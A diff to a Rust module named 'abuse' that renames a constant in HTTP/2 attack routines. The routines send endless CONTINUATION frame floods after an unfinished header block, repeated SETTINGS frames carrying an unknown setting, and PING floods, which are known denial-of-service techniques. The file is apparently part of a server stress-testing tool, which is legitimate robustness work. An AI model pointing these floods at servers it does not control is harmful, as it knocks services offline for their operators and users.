@@ -7,7 +7,7 @@ use crate::abuse::frames;
 use crate::abuse::headers;
 use crate::abuse::target::Target;
 
-const AT_ONCE: usize = 100;
+const PER_FLOOD: usize = 100;
 /// SETTINGS_HEADER_TABLE_SIZE, and one that nobody knows.
 const TABLE_SIZE: u16 = 1;
 const UNKNOWN: u16 = 0x7777;
@@ -17,7 +17,7 @@ pub(super) async fn continuation(target: &Rc<Target>) -> Result<(), Ended> {
     let mut connection = Connection::open_http2(target, 1, &[]).await?;
     let block = headers::call(&target.spec.method, None);
     connection.send(&frames::headers(1, 0, &block)).await?;
-    let more = frames::continuation(1, 0, &headers::filler(1000)).repeat(AT_ONCE);
+    let more = frames::continuation(1, 0, &headers::filler(1000)).repeat(PER_FLOOD);
     endless(&mut connection, target, &more).await
 }
 
@@ -29,7 +29,7 @@ pub(super) async fn settings(target: &Rc<Target>) -> Result<(), Ended> {
     endless(
         &mut connection,
         target,
-        &[small, large].concat().repeat(AT_ONCE / 2),
+        &[small, large].concat().repeat(PER_FLOOD / 2),
     )
     .await
 }
@@ -37,7 +37,7 @@ pub(super) async fn settings(target: &Rc<Target>) -> Result<(), Ended> {
 /// Pings that each must be answered.
 pub(super) async fn ping(target: &Rc<Target>) -> Result<(), Ended> {
     let mut connection = Connection::open_http2(target, 1, &[]).await?;
-    endless(&mut connection, target, &frames::ping().repeat(AT_ONCE)).await
+    endless(&mut connection, target, &frames::ping().repeat(PER_FLOOD)).await
 }
 
 async fn endless(connection: &mut Connection, target: &Target, more: &[u8]) -> Result<(), Ended> {
